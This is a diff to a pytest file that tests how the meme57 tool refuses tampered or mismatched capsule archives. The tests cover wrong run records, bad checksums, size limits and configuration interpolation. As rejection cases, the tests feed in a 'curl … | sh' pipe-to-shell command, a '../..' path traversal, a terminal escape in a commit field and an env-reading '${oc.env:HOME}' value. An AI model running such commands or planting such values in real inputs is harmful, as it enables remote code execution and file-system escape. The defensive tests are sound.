@@ -16,6 +16,7 @@ import yaml
 from click.testing import CliRunner
 
 from meme57 import __version__
+from meme57.capsules.contents import as_yaml
 from meme57.capsules.read import import_capsule
 from meme57.capsules.write import write_capsule
 from meme57.cli import main
@@ -346,6 +347,8 @@ AGENT, RECORD, SCORES = "checkpoint/agent.json", "setup/run_record.json", "repor
         (manifest_of(checkpoint="checkpoint-000001/../.."), "capsule.json is damaged: checkpoint"),
         (manifest_of(command="curl -s https://example.org/x | sh"), "its command is not the one that trains run"),
         (manifest_of(commit="abc1234\x1b[8m"), "capsule.json is damaged: commit"),
+        (manifest_of(game="Breakout"), "the run record is of Pong"),
+        (json_change(RECORD, lambda tree: tree.update(seed=2)), "the run record is of Pong, seed 2, the configuration"),
         (manifest_of(format=99), "format 99, this version of meme57 reads 1"),
     ],
 )
@@ -355,6 +358,53 @@ def test_files_that_do_not_belong_together_are_refused(
     files = read(capsule)
     change(files)
     refused(write(files, tmp_path / "bad.zip"), elsewhere, words)
+
+
+def rewritten(capsule: Path, path: Path, change: Callable[[Files, dict[str, Any]], None]) -> Path:
+    """A whole archive whose files, or manifest, are not what its checksums say."""
+    files = read(capsule)
+    tree = json.loads(files.pop("capsule.json"))
+    change(files, tree)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in {"capsule.json": json.dumps(tree).encode(), **files}.items():
+            archive.writestr(name, content)
+    return path
+
+
+def other_content(files: Files, _: dict[str, Any]) -> None:
+    files["about/README.md"] = files["about/README.md"][::-1]
+
+
+def other_manifest(_: Files, tree: dict[str, Any]) -> None:
+    tree["meme57"] = "9.9"
+
+
+@pytest.mark.parametrize(("change", "name"), [(other_content, "about/README.md"), (other_manifest, "capsule.json")])
+def test_a_checksum_that_does_not_match_is_refused(
+    capsule: Path, elsewhere: Path, tmp_path: Path, change: Any, name: str
+) -> None:
+    refused(rewritten(capsule, tmp_path / "bad.zip", change), elsewhere, f"the checksum of {name} does not match")
+
+
+@pytest.mark.parametrize(
+    ("limit", "less", "words"),
+    [
+        ("MOST_FILES", lambda infos: len(infos) - 1, r"it holds \d+ files"),
+        ("MOST_BYTES", lambda infos: sum(info.file_size for info in infos) - 1, "would unpack to"),
+        ("LARGEST_MANIFEST", lambda infos: 10, r"capsule.json has [\d,]+ bytes"),
+    ],
+)
+def test_a_capsule_beyond_a_limit_is_refused(
+    capsule: Path, elsewhere: Path, monkeypatch: pytest.MonkeyPatch, limit: str, less: Any, words: str
+) -> None:
+    with zipfile.ZipFile(capsule) as archive:
+        monkeypatch.setattr(f"meme57.capsules.read.{limit}", less(archive.infolist()))
+    refused(capsule, elsewhere, words)
+
+
+def test_no_parameter_is_a_command_to_the_configuration() -> None:
+    with pytest.raises(CapsuleError, match="which a configuration would evaluate"):
+        as_yaml({"env": {"game": "${oc.env:HOME}"}})
 
 
 def test_an_unchanged_copy_is_accepted(capsule: Path, elsewhere: Path, tmp_path: Path) -> None:
